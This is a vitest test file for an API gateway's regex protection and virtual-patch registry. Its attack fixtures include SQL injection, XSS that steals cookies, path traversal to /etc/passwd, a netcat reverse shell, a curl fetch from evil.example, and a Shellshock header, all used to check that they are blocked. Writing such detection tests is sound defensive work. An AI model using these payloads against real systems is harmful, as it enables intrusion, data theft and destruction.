import { afterAll, beforeAll, describe, expect, it } from "vitest";
import pino from "pino";
import { compilePatch, SECURITY_RULES_CHANNEL, type CompiledPatch, type VirtualPatchConfig } from "../../../security/virtual-patch.ts";
import { createTestPortal } from "../../../portal/test-context.ts";
import type { GatewayAnswer } from "../../policy.ts";
import { testContext, testRuntime, type TestCallOptions } from "../../test-context.ts";
import { VirtualPatchRegistry } from "../../virtual-patches.ts";
import { regexBodyProtection, regexProtection, RegexBodyProtectionConfig, RegexProtectionConfig } from "./regex-protection.ts";
import { BUILT_IN_RULES, RULE_SETS } from "./regex-rules.ts";

function patch(id: string, config: Partial<VirtualPatchConfig> & { pattern: string }): CompiledPatch {
  return compilePatch({ id, name: id, config: { targets: ["path", "query", "headers", "body"], action: "block", caseInsensitive: false, ...config } });
}

function policies(patches: CompiledPatch[] = []) {
  const runtime = testRuntime({ services: { virtualPatches: async () => patches } });
  const run = async (options: TestCallOptions, config: Record<string, unknown> = {}) => {
    const made = testContext(options, runtime);
    const head = (await regexProtection.access!(made, RegexProtectionConfig.parse(config))) as GatewayAnswer | undefined;
    const { targets: _t, ignoreHeaders: _i, ...bodyConfig } = config;
    const body = head ?? ((await regexBodyProtection.access!(made, RegexBodyProtectionConfig.parse(bodyConfig))) as GatewayAnswer | undefined);
    return { made, answer: body, code: (body?.body as { code?: string } | undefined)?.code };
  };
  return { run };
}

const json = (value: unknown): TestCallOptions => ({ method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(value) });

const ATTACKS: Array<[string, TestCallOptions]> = [
  ["sql_injection", { url: "/users?id=1%27%20OR%20%271%27%3D%271" }],
  ["sql_injection", { url: "/users?id=1 UNION ALL SELECT password FROM users" }],
  ["sql_injection", { url: "/users?name=admin'--" }],
  ["sql_injection", { url: "/users?id=1;DROP TABLE users" }],
  ["sql_injection", { url: "/users?id=1 AND SLEEP(5)" }],
  ["sql_injection", json({ filter: "x' or 1=1 --" })],
  ["sql_injection", json({ q: "1 union/**/select null" })],
  ["xss", { url: "/search?q=<script>alert(1)</script>" }],
  ["xss", { url: "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E" }],
  ["xss", { url: "/r?next=javascript:alert(document.cookie)" }],
  ["xss", { url: "/search?q=%253Cscript%253Ealert(1)" }],
  ["xss", { url: "/pages/%253Cscript%253E" }],
  ["xss", { headers: { referer: "<svg/onload=alert(1)>" } }],
  ["xss", json({ bio: "<iframe src=//evil.example>" })],
  ["xss", { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E" }],
  ["path_traversal", { url: "/files/..%2f..%2fetc%2fpasswd" }],
  ["path_traversal", { url: "/files/%252e%252e%252fboot.ini" }],
  ["path_traversal", { url: "/files?name=../../etc/passwd" }],
  ["path_traversal", { url: "/files?name=report%00.pdf" }],
  ["path_traversal", json({ file: "..\\..\\windows\\win.ini" })],
  ["command_injection", { url: "/ping?host=127.0.0.1;ls -la /" }],
  ["command_injection", { url: "/ping?host=$(whoami)" }],
  ["command_injection", { url: "/ping?host=x|nc -e /bin/sh 10.0.0.1 4444" }],
  ["command_injection", json({ host: "a && curl http://evil.example/x.sh" })],
  ["command_injection", { headers: { "user-agent": "() { :; }; /bin/bash -c 'id'" } }],
];

const NORMAL: Array<[string, TestCallOptions]> = [
  ["a customer record", json({ name: "Jane O'Brien", email: "jane.o-brien+news@example.com", phone: "+1 (555) 010-0199", address: "12 Rue de l'Église, 75001 Paris" })],
  [
    "prose with SQL words",
    json({ note: "Please select the best option from the list where it fits; drop me a line and update the table if you like.", title: "Union of select committees" }),
  ],
  ["prose with shell words", json({ text: "Tom & Jerry; cat lovers | dog people. Use `ls` to list files; then id cards are printed.", price: "$(5) or less" })],
  ["prose with markup words", json({ html: "The script of the play; onload times are measured. JavaScript: The Good Parts", math: "a < b and c > d" })],
  ["nested JSON", json({ order: { items: [{ sku: "A-1", qty: 2, tags: ["red", "xl"] }], coupon: null, total: 19.99, paid: true } })],
  ["quotes and dashes", json({ quote: 'He said "hi" -- and left', range: "1-10", path: "docs/guide/intro.md", version: "1.2.3" })],
  ["ordinary URL", { url: "/v1/orders/123/items?sort=-created&fields=id,name&q=O'Neil&page=2&filter=status%3Dopen&discount=100%25&name=caf%C3%A9" }],
  [
    "browser headers",
    {
      headers: {
        "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        accept: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        "accept-language": "en-GB,en;q=0.9",
        authorization: "Bearer gth_at_abc' OR '1'='1",
        cookie: "sid=9f8e7d6c5b4a; theme=dark; consent=%7B%22ads%22%3Afalse%7D",
      },
    },
  ],
  [
    "a form",
    { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "name=Jane+Doe&email=jane%40example.com&message=Select+the+best+option%2C+please" },
  ],
  ["a URL in a value", json({ website: "https://example.com/a/b?c=d#e", image: "https://cdn.example.com/img/1.png" })],
];

describe("regex-protection, built-in rule sets", () => {
  it("refuses each attack with 400 naming the rule set, never the value", async () => {
    const { run } = policies();
    for (const [code, options] of ATTACKS) {
      const { answer } = await run(options);
      expect(answer?.status, JSON.stringify(options)).toBe(400);
      expect(answer?.body, JSON.stringify(options)).toMatchObject({ code, status: 400, title: expect.any(String), detail: expect.any(String) });
      expect(JSON.stringify(answer?.body)).not.toMatch(/script|passwd|union|whoami|alert/i);
    }
  });

  it("lets normal requests through: names, emails, prose like 'select the best option'", async () => {
    const { run } = policies();
    for (const [name, options] of NORMAL) expect((await run(options)).answer, name).toBeUndefined();
  });

  it("inspects only the configured rule sets and targets; monitor mode only logs", async () => {
    const { run } = policies();
    expect((await run({ url: "/s?q=<script>" }, { ruleSets: ["sql-injection"] })).answer).toBeUndefined();
    expect((await run({ headers: { referer: "<script>" } }, { targets: ["path", "query"] })).answer).toBeUndefined();
    const monitored = await run({ url: "/s?q=<script>" }, { mode: "monitor" });
    expect(monitored.answer).toBeUndefined();
    expect(monitored.made.annotations.threatMatches).toEqual(["xss"]);
  });

  it("stays linear on long adversarial inputs", () => {
    const inputs = [
      "<a" + " ".repeat(50_000),
      "' or ".repeat(10_000),
      "union ".repeat(10_000) + "x",
      ";".repeat(50_000) + "cat",
      "a".repeat(100_000),
      "<a on".repeat(10_000),
      "../".repeat(20_000),
      "$(".repeat(20_000),
    ];
    for (const set of RULE_SETS) {
      for (const input of inputs) {
        const start = performance.now();
        BUILT_IN_RULES[set].test(input);
        expect(performance.now() - start, `${set} on ${input.slice(0, 10)}…`).toBeLessThan(100);
      }
    }
  });
});

describe("regex-protection, virtual patches", () => {
  it("applies a patch to its targets only; action log lets the call through, annotated", async () => {
    const { run } = policies([patch("p-block", { pattern: "^/legacy/export", targets: ["path"] }), patch("p-log", { pattern: "(?i)curl/", targets: ["headers"], action: "log" })]);
    expect((await run({ url: "/legacy/export/all" })).answer?.body).toMatchObject({ code: "virtual_patch", detail: expect.stringContaining("p-block") });
    expect((await run({ url: "/x?to=/legacy/export" })).answer).toBeUndefined();
    const logged = await run({ headers: { "user-agent": "curl/8.0" } });
    expect(logged.answer).toBeUndefined();
    expect(logged.made.annotations.threatMatches).toEqual(["patch:p-log"]);
  });

  it("remembers clean values per config and patch set: a new patch applies to values seen clean before, a log patch logs every call", async () => {
    let loaded: CompiledPatch[] = [patch("p-log", { pattern: "(?i)curl/", targets: ["headers"], action: "log" })];
    const runtime = testRuntime({ services: { virtualPatches: async () => loaded } });
    const config = RegexProtectionConfig.parse({}); // one config object, as a proxy's chain holds it
    const call = async (options: TestCallOptions) => {
      const made = testContext(options, runtime);
      const answer = (await regexProtection.access!(made, config)) as GatewayAnswer | undefined;
      return { made, code: (answer?.body as { code?: string } | undefined)?.code };
    };
    const honest = { url: "/orders/42?view=full", headers: { "user-agent": "shop-app/2.1", accept: "application/json" } };
    for (let i = 0; i < 3; i++) expect((await call(honest)).code).toBeUndefined();
    for (let i = 0; i < 2; i++) expect((await call({ headers: { "user-agent": "curl/8.0" } })).made.annotations.threatMatches).toEqual(["patch:p-log"]);
    expect((await call({ url: "/orders/42?view=' or 1=1 --" })).code).toBe("sql_injection"); // the built-ins still run on new values

    loaded = [...loaded, patch("p-app", { pattern: "shop-app/2\\.1", targets: ["headers"] }), patch("p-view", { pattern: "^full$", targets: ["query"] })];
    expect((await call({ headers: honest.headers })).code).toBe("virtual_patch");
    expect((await call({ url: honest.url })).code).toBe("virtual_patch");
  });

  it("matches body strings and form fields", async () => {
    const { run } = policies([patch("p-body", { pattern: "CVE-2026-\\d+", targets: ["body"] })]);
    expect((await run(json({ a: { b: ["CVE-2026-1234"] } }))).code).toBe("virtual_patch");
    expect((await run({ method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "x=CVE-2026-9" })).code).toBe("virtual_patch");
    expect((await run({ url: "/CVE-2026-1" })).answer).toBeUndefined();
  });

  it("refuses a body it cannot inspect", async () => {
    const { run } = policies();
    expect((await run({ method: "POST", headers: { "content-type": "application/json" }, body: '{"a":' })).code).toBe("malformed_json");
  });

  it("answers the ReDoS pattern (a+)+$ on 'a'×30+'!' in linear time (RE2)", async () => {
    const { run } = policies([patch("redos", { pattern: "(a+)+$", targets: ["query", "body"] })]);
    const start = performance.now();
    expect((await run({ url: `/x?q=${"a".repeat(30)}!` })).answer).toBeUndefined();
    expect((await run(json({ q: `${"a".repeat(100_000)}!` }))).answer).toBeUndefined();
    expect((await run({ url: `/x?q=${"a".repeat(30)}` })).code).toBe("virtual_patch");
    expect(performance.now() - start).toBeLessThan(500);
  });
});

describe("the virtual patch registry", () => {
  let portal: Awaited<ReturnType<typeof createTestPortal>>;
  beforeAll(async () => {
    portal = await createTestPortal();
  });
  afterAll(async () => {
    await portal.close();
  });

  it("loads enabled virtual patches, and reloads when a change is announced on the store", async () => {
    const log = pino({ level: "silent" });
    const config = (pattern: string) => JSON.stringify({ pattern, targets: ["query"], action: "block" });
    await portal.db.securityRule.create({ data: { kind: "virtual_patch", name: "one", config: config("^one$") } });
    await portal.db.securityRule.create({ data: { kind: "virtual_patch", name: "off", config: config("^off$"), enabled: false } });
    await portal.db.securityRule.create({ data: { kind: "bot_action", name: "other kind", config: "{}" } });
    await portal.db.securityRule.create({ data: { kind: "virtual_patch", name: "broken", config: JSON.stringify({ pattern: "(?=x)" }) } });
    const registry = new VirtualPatchRegistry(portal.db, portal.store, log, { refreshMs: 3_600_000 });
    expect((await registry.current()).map((p) => p.name)).toEqual(["one"]);
    await portal.db.securityRule.create({ data: { kind: "virtual_patch", name: "two", config: config("^two$") } });
    expect((await registry.current()).map((p) => p.name)).toEqual(["one"]); // cached until announced
    const loads = registry.loads;
    await portal.store.publish(SECURITY_RULES_CHANNEL, JSON.stringify({ id: "two" }));
    await waitFor(() => registry.loads > loads);
    const reloaded = await registry.current();
    expect(reloaded.map((p) => p.name)).toEqual(["one", "two"]);
    expect(reloaded[1]!.test("two")).toBe(true);
    // the policy uses them at once
    const made = testContext({ url: "/x?q=two" }, testRuntime({ services: { virtualPatches: () => registry.current() } }));
    expect(((await regexProtection.access!(made, RegexProtectionConfig.parse({}))) as GatewayAnswer).status).toBe(400);
    await registry.close();
  });

  it("keeps the last loaded set while the database is away, and refreshes in the background", async () => {
    const log = pino({ level: "silent" });
    let now = 0;
    let database: typeof portal.db | null = portal.db;
    // a database that can be taken away
    const db = {
      securityRule: { findMany: (args: never) => (database ? database.securityRule.findMany(args) : Promise.reject(new Error("database down"))) },
    } as unknown as typeof portal.db;
    const registry = new VirtualPatchRegistry(db, portal.store, log, { refreshMs: 1_000, now: () => now });
    const first = await registry.current();
    expect(first.length).toBeGreaterThan(0);
    database = null;
    now += 2_000;
    expect(await registry.current()).toBe(first); // served at once; the refresh runs behind
    await new Promise((r) => setTimeout(r, 50));
    expect(await registry.current()).toBe(first);
    database = portal.db;
    await portal.db.securityRule.create({ data: { kind: "virtual_patch", name: "three", config: JSON.stringify({ pattern: "^three$" }) } });
    now += 5_000;
    const loads = registry.loads;
    await registry.current();
    await waitFor(() => registry.loads > loads);
    expect((await registry.current()).map((p) => p.name)).toContain("three");
    await registry.close();
  });
});

async function waitFor(condition: () => boolean, timeoutMs = 2_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error("condition not met in time");
    await new Promise((r) => setTimeout(r, 10));
  }
}
